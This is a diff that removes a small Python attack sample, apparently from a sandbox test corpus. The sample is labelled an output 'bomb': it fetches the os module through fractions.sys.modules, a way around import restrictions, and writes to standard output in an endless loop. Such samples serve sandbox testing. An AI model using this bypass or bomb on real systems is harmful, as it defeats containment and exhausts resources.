@@ -1,8 +1,0 @@
-# attack: writes past Python into the process's standard output without end
-# family: bombs
-# ends: output
-import fractions
-
-os = [fractions][0].sys.modules["os"]
-while True:
-    os.write(1, b"clay " * 10_000)
